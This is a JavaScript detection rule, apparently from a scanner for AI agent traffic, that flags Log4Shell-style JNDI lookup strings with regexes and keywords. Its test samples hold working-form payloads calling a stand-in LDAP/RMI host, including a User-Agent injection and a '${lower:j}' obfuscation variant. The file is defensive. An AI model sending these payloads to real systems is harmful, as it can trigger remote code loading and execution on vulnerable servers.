import { defineRule } from '../rule.js';

export default defineRule({
  id: 'payload/jndi-lookup',
  title: 'Carries a JNDI lookup',
  detector: 'pattern',
  severity: 'high',
  phase: 'actions_on_objective',
  tags: ['LLM05:2025', 'ASI05:2026'],
  why: "A logging library that resolves the lookup loads a class from the attacker's server and runs it.",
  fix: 'Update the library; refuse the value.',
  surfaces: ['tool', 'tool-call', 'tool-result', 'output', 'prompt', 'memory', 'skill', 'server-instructions'],
  outbound: true,
  keywords: ['jndi', `\${lower`, `\${upper`, `\${env:`, `\${::-`],
  patterns: [
    /\$\{\s?(?:jndi|(?:\$\{(?:lower|upper|env:\w{0,20}:?-?|::-|date):?["']?[jndi]["']?\}|[jndi]){4})\s?:/,
    /\$\{jndi:(?:ldaps?|rmi|dns|iiop|corba|nis|nds|http):/,
  ],
  match: [
    `\${jndi:ldap://a.example/x}`,
    `User-Agent: \${jndi:rmi://a.example/o}`,
    `\${\${lower:j}ndi:ldap://a.example}`,
  ],
  clean: [
    ['JNDI is a naming interface of Java.', 'an explanation'],
    [`\${env.HOME}/bin`, 'a variable'],
  ],
});
